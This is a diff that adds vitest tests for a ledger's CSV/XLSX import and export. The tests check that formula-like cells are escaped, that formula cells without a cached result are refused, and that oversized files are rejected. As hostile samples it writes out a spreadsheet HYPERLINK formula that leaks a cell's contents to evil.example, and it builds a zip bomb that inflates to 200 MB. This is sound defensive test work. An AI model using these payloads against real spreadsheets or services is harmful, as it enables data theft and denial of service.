@@ -1,10 +1,13 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { SessionUser } from '$lib/server/auth/sessions';
 import { changeLog, user } from '$lib/server/db/schema';
 import { getInitiative } from '$lib/server/initiatives';
 import { summaryColumns } from '$lib/server/monthly/columns';
+import { csvCell, csvCellText } from '$lib/server/monthly/csv-cell';
 import { exportFormats } from '$lib/server/monthly/exports';
 import { applyImport, planImport, readImportFile } from '$lib/server/monthly/import';
 import { monthlySummary } from '$lib/server/monthly/summary';
@@ -115,5 +118,47 @@ describe('importing a filled-in ledger', () => {
 		const read = await readImportFile('nov.csv', new Uint8Array(csv), MONTH);
 		expect(read.rows.length).toBe(40);
 		await expect(readImportFile('nov.csv', new Uint8Array(csv), '2026-10')).rejects.toThrow(/不是 2026-10 的月报/);
+	});
+
+	it('writes texts that start like a formula with a guard, and reads them back unchanged', async () => {
+		const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1'];
+		const csv = csvCell(hostile[0]);
+		expect(csv.startsWith(`"'=`)).toBe(true);
+		for (const text of hostile) {
+			const cell = csvCell(text);
+			expect(cell.replace(/^"/, '')).toMatch(/^'/);
+			const [[parsed]] = parseCsv(cell) as string[][];
+			expect(csvCellText(parsed)).toBe(text);
+		}
+		expect(csvCellText("'plain")).toBe("'plain");
+		expect(csvCell(-3)).toBe('-3');
+	});
+
+	it('reads a formula cell by its cached result, and refuses one without a result', async () => {
+		const withResult = await filledXlsx('ECO-04', (row, col) => {
+			row.getCell(col('本月进展')).value = { formula: 'CONCAT("完成","改造")', result: '完成改造' };
+		});
+		const read = await readImportFile('f.xlsx', withResult, MONTH);
+		expect(read.rows.find((r) => r.code === 'ECO-04')?.progress).toBe('完成改造');
+		const withoutResult = await filledXlsx('ECO-04', (row, col) => {
+			row.getCell(col('本月进展')).value = { formula: 'A1&B1' } as ExcelJS.CellFormulaValue;
+		});
+		await expect(readImportFile('f.xlsx', withoutResult, MONTH)).rejects.toThrow(/公式/);
+	});
+
+	it('refuses abusive files fast, before the work they would cause', async () => {
+		const started = Date.now();
+		const newlines = Buffer.concat([Buffer.from('月份,类别/分组\n'), Buffer.alloc(300_000, 10)]);
+		await expect(readImportFile('n.csv', new Uint8Array(newlines), MONTH)).rejects.toThrow(/行数过多/);
+		const commas = Buffer.alloc(4_000_000, 44);
+		await expect(readImportFile('c.csv', new Uint8Array(commas), MONTH)).rejects.toThrow(/行数过多/);
+		// A sheet whose XML inflates to 200 MB from well under a megabyte.
+		const zip = new JSZip();
+		zip.file('[Content_Types].xml', '<Types/>');
+		zip.file('xl/worksheets/sheet1.xml', '<x>' + ' '.repeat(200 * 1024 * 1024) + '</x>');
+		const bomb = await zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level: 9 } });
+		expect(bomb.length).toBeLessThan(1024 * 1024);
+		await expect(readImportFile('bomb.xlsx', bomb, MONTH)).rejects.toThrow(/解压后超过/);
+		expect(Date.now() - started).toBeLessThan(20_000);
 	});
 });
